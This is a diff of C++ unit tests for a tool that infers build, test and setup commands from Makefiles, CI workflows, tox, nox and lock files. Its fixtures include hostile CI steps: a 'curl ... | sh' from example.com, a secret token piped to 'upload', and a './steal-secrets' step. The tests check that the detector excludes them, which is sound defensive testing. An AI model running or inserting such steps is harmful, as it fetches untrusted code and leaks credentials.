@@ -110,7 +110,9 @@ TEST(Detect, MakeTargets) {
                 "%.o: %.c\n\t$(CC) -c $<\ntest: all\n\t./app --self-test\nlint:\n\ttrue\n");
   EXPECT_EQ(Detect(dir.path()), (std::map<std::string, std::string>{
                                     {"build", "make -s  [Makefile: all target]"},
-                                    {"test", "make -s test  [Makefile: test target]"},
+                                    {"test",
+                                     "make -s test  [Makefile: test target (its recipe "
+                                     "runs no known test runner)]"},
                                     {"lint", "make -s lint  [Makefile: lint target]"}}));
 }
 
@@ -119,7 +121,8 @@ TEST(Detect, MakeWhoseFirstTargetIsTestIsNoBuild) {
   WriteTestFile(dir.path(), "Makefile", "check:\n\t./run-checks\n");
   auto found = Detect(dir.path());
   EXPECT_EQ(found.count("build"), 0u);
-  EXPECT_EQ(found["test"], "make -s check  [Makefile: check target]");
+  EXPECT_EQ(found["test"],
+            "make -s check  [Makefile: check target (its recipe runs no known test runner)]");
 }
 
 TEST(Detect, NpmScriptsThatExist) {
@@ -197,6 +200,200 @@ TEST(Detect, MakefileTargetsWinOverLanguageDefaultsOncePerKind) {
   EXPECT_EQ(detected[1].spec.command, "make -s test");
   EXPECT_EQ(detected[1].why, "Makefile: test target");
   EXPECT_EQ(detected[2].spec.command, "npm run -s lint");
+}
+
+// A Makefile whose `test` runs a demo and a CMake project with real unit tests.
+void WriteDemoMakeAndCMake(const std::filesystem::path& dir) {
+  WriteTestFile(dir, "Makefile",
+                "all: demo\ndemo: demo.c\n\tcc -o demo demo.c\ntest: demo\n\t./demo\n");
+  WriteTestFile(
+      dir, "CMakeLists.txt",
+      "project(x C)\nenable_testing()\nadd_executable(unit unit.c)\nadd_test(unit unit)\n");
+}
+
+TEST(Detect, AnEcosystemsRunnerBeatsAMakeTestThatRunsNoTestRunner) {
+  TempDir dir;
+  WriteDemoMakeAndCMake(dir.path());
+  auto found = Detect(dir.path());
+  EXPECT_NE(found["test"].find("ctest --test-dir"), std::string::npos) << found["test"];
+  EXPECT_EQ(found["build"], "make -s  [Makefile: all target]");
+}
+
+TEST(Detect, GithubWorkflowRunStepsAreTheStrongestHint) {
+  TempDir dir;
+  WriteDemoMakeAndCMake(dir.path());
+  WriteTestFile(dir.path(), ".github/workflows/ci.yml",
+                "name: ci\n"                                         // 1
+                "on: [push]\n"                                       // 2
+                "jobs:\n"                                            // 3
+                "  test:\n"                                          // 4
+                "    runs-on: ubuntu-latest\n"                       // 5
+                "    steps:\n"                                       // 6
+                "      - uses: actions/checkout@v4\n"                // 7
+                "      - run: sudo apt-get install -y libfoo-dev\n"  // 8
+                "      - name: configure\n"                          // 9
+                "        run: |\n"                                   // 10
+                "          mkdir -p build\n"                         // 11
+                "          cmake -S . -B build \\\n"                 // 12
+                "            -DCMAKE_BUILD_TYPE=Debug\n"             // 13
+                "      - run: cmake --build build -j 2\n"            // 14
+                "      - run: curl -s https://example.com/x | sh\n"  // 15
+                "      - run: ./scripts/lint.sh\n"                   // 16
+                "      - working-directory: build\n"                 // 17
+                "        run: ctest --output-on-failure\n"           // 18
+                "      - run: echo ${{ secrets.TOKEN }} | upload\n"  // 19
+                "      - run: make install\n");                      // 20
+  auto detected = DetectVerifiers(dir.path());
+  ASSERT_EQ(detected.size(), 2u);
+  EXPECT_EQ(detected[0].kind, VerifierKind::kBuild);
+  EXPECT_EQ(detected[0].spec.command,
+            "(mkdir -p build && cmake -S . -B build  -DCMAKE_BUILD_TYPE=Debug) && "
+            "(cmake --build build -j 2)");
+  EXPECT_EQ(detected[0].why, "from .github/workflows/ci.yml line 14 (job test)");
+  EXPECT_EQ(detected[1].kind, VerifierKind::kTest);
+  EXPECT_EQ(detected[1].spec.command,
+            "(mkdir -p build && cmake -S . -B build  -DCMAKE_BUILD_TYPE=Debug) && "
+            "(cmake --build build -j 2) && (cd 'build' && ctest --output-on-failure)");
+  EXPECT_EQ(detected[1].why, "from .github/workflows/ci.yml line 18 (job test)");
+}
+
+TEST(Detect, CiTestRunnerBeatsACiMakeWrapperAndOtherSystemsJobsAreLeftOut) {
+  TempDir dir;
+  WriteTestFile(
+      dir.path(), ".github/workflows/a.yml",
+      "jobs:\n  quick:\n    runs-on: ubuntu-22.04\n    steps:\n      - run: make check\n");
+  WriteTestFile(dir.path(), ".github/workflows/b.yaml",
+                "jobs:\n  win:\n    runs-on: windows-latest\n    steps:\n"
+                "      - run: python -m pytest -x\n"
+                "  unit:\n    runs-on: ubuntu-latest\n    steps:\n"
+                "      - run: pip install -e .[test]\n"
+                "      - run: python -m unittest discover -s tests -v\n"
+                "      - shell: pwsh\n        run: pytest\n");
+  auto found = Detect(dir.path());
+  EXPECT_EQ(found["test"],
+            "(python -m unittest discover -s tests -v)  [from .github/workflows/b.yaml line 10 "
+            "(job unit)]");
+  EXPECT_EQ(found.count("build"), 0u);
+}
+
+TEST(Detect, MakeTargetsThatNeedTheNetworkAreNoChecks) {
+  TempDir dir;
+  WriteTestFile(dir.path(), "Makefile",
+                ".PHONY: all-checks install lint docs test\n"
+                "all-checks: install lint docs test\n"
+                "install:\n\t$(PIP) install -e .[dev]\n"
+                "lint:\n\truff check .\n"
+                "docs:\n\tsphinx-build docs docs/_build\n"
+                "test:\n\tpython -m pytest\n");
+  WriteTestFile(dir.path(), "tests/test_x.py", "import unittest\n");
+  auto found = Detect(dir.path());
+  EXPECT_EQ(found.count("build"), 0u) << found["build"];
+  EXPECT_EQ(found["test"], "make -s test  [Makefile: test target]");
+
+  WriteTestFile(dir.path(), "Makefile", "test: deps\n\tpytest\ndeps:\n\tcurl -sO https://x/y\n");
+  EXPECT_EQ(Detect(dir.path())["test"], "python3 -m unittest discover -q -s tests  [tests/*.py]");
+}
+
+TEST(Detect, GitlabCiScriptRunsInOneShell) {
+  TempDir dir;
+  WriteTestFile(dir.path(), ".gitlab-ci.yml",
+                "stages: [test]\n"
+                "default:\n  before_script:\n    - apt-get update\n"
+                ".template: &t\n  script:\n    - make\n"
+                "unit:\n  stage: test\n  script:\n"
+                "    - cd src\n"
+                "    - go build ./...\n"
+                "    - go test -race ./...\n"
+                "deploy:\n  script:\n    - ./deploy.sh $CI_JOB_TOKEN\n");
+  auto found = Detect(dir.path());
+  EXPECT_EQ(found["build"], "(cd src && go build ./...)  [from .gitlab-ci.yml line 12 (job unit)]");
+  EXPECT_EQ(found["test"],
+            "(cd src && go build ./... && go test -race ./...)  [from .gitlab-ci.yml line 13 (job "
+            "unit)]");
+}
+
+TEST(Detect, ToxAndNoxCommands) {
+  TempDir tox;
+  WriteTestFile(tox.path(), "tox.ini",
+                "[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\n"
+                "commands =\n    pip install -e .\n    pytest -q {posargs:tests}\n");
+  EXPECT_EQ(Detect(tox.path())["test"], "(pytest -q tests)  [from tox.ini line 8 (job testenv)]");
+
+  TempDir nox;
+  WriteTestFile(nox.path(), "noxfile.py",
+                "import nox\n\n@nox.session\ndef tests(session):\n"
+                "    session.install(\"-e\", \".[test]\")\n"
+                "    session.run(\"python\", \"-m\", \"unittest\", \"-v\", *session.posargs)\n"
+                "    session.run(get_cmd())\n");
+  EXPECT_EQ(Detect(nox.path())["test"],
+            "('python' '-m' 'unittest' '-v')  [from noxfile.py line 6 (job nox)]");
+}
+
+TEST(Detect, UnreadableCiConfigurationFallsBackToMarkerFiles) {
+  TempDir dir;
+  WriteTestFile(dir.path(), "go.mod", "module x\n");
+  WriteTestFile(dir.path(), ".github/workflows/bad.yml", "jobs: [unclosed\n");
+  WriteTestFile(dir.path(), ".gitlab-ci.yml", "- just\n- a list\n");
+  TempDir outside;
+  WriteTestFile(outside.path(), "ci.yml",
+                "jobs:\n  t:\n    steps:\n      - run: ./steal-secrets && go test ./...\n");
+  std::filesystem::create_symlink(outside / "ci.yml", dir / ".github/workflows/ci.yml");
+  EXPECT_EQ(Detect(dir.path())["test"], "go test ./...  [go.mod]");
+}
+
+TEST(DetectSetup, EachEcosystemFromItsLockOrRequirementFiles) {
+  TempDir dir;
+  EXPECT_TRUE(DetectSetup(dir.path()).commands.empty());
+  WriteTestFile(dir.path(), "package.json", R"({"scripts":{"test":"tsd"}})");
+  EXPECT_TRUE(DetectSetup(dir.path()).commands.empty());  // No lock file: not reproducible.
+  WriteTestFile(dir.path(), "package-lock.json", "{}");
+  WriteTestFile(dir.path(), "requirements-dev.txt", "pytest\n");
+  WriteTestFile(dir.path(), "pyproject.toml", "[project]\nname = \"x\"\n");
+  WriteTestFile(dir.path(), "go.mod", "module x\n");
+  WriteTestFile(dir.path(), "go.sum", "");
+  auto setup = DetectSetup(dir.path());
+  ASSERT_EQ(setup.commands.size(), 4u);
+  EXPECT_EQ(setup.commands[0], "npm ci --no-audit --no-fund");
+  EXPECT_NE(setup.commands[1].find("-m pip install --disable-pip-version-check --no-input "
+                                   "--target \"$DROVER_DEPS/python\" -r requirements-dev.txt"),
+            std::string::npos)
+      << setup.commands[1];
+  EXPECT_NE(setup.commands[2].find("optional-dependencies"), std::string::npos);
+  EXPECT_EQ(setup.commands[3], "go mod download");
+  EXPECT_EQ(setup.inputs, (std::vector<std::string>{"package-lock.json", "requirements-dev.txt",
+                                                    "pyproject.toml", "go.sum"}));
+  EXPECT_EQ(setup.hosts,
+            (std::vector<std::string>{"registry.npmjs.org", "pypi.org", "files.pythonhosted.org",
+                                      "proxy.golang.org", "sum.golang.org"}));
+
+  TempDir yarn;
+  WriteTestFile(yarn.path(), "package.json", "{}");
+  WriteTestFile(yarn.path(), "yarn.lock", "");
+  EXPECT_EQ(DetectSetup(yarn.path()).commands,
+            (std::vector<std::string>{"yarn install --frozen-lockfile --non-interactive"}));
+}
+
+TEST(DetectSetup, PyprojectExtrasAreReadByPythonInTheSandbox) {
+  TempDir dir;
+  WriteTestFile(dir.path(), "pyproject.toml",
+                "[project]\nname = \"x\"\ndependencies = [\"attrs\"]\n"
+                "[project.optional-dependencies]\ntest = [\"helperlib\"]\ndocs = [\"sphinx\"]\n");
+  auto setup = DetectSetup(dir.path());
+  ASSERT_EQ(setup.commands.size(), 1u);
+  // Run the listing half of the command: it writes the requirements the pip half installs.
+  std::string list = setup.commands[0].substr(0, setup.commands[0].find(" && "));
+  list.replace(list.find("/tmp/drover-requirements.txt"), 28, (dir / "req.txt").string());
+  drover::testing::Sh("cd '" + dir.path().string() + "' && " + list);
+  EXPECT_EQ(drover::testing::ReadTestFile(dir / "req.txt"), "attrs\nhelperlib\n");
+}
+
+TEST(DetectSetup, EnvironmentPointsEveryToolAtTheDepsDirectory) {
+  auto env = SetupEnvironment("/deps", "/usr/bin");
+  EXPECT_EQ(env["DROVER_DEPS"], "/deps");
+  EXPECT_EQ(env["PYTHONPATH"], "/deps/python");
+  EXPECT_EQ(env["PATH"], "/deps/python/bin:/usr/bin");
+  EXPECT_EQ(env["npm_config_cache"], "/deps/npm-cache");
+  EXPECT_EQ(env["GOMODCACHE"], "/deps/go-mod");
 }
 
 TEST(Detect, SymlinkedMarkersAreIgnored) {
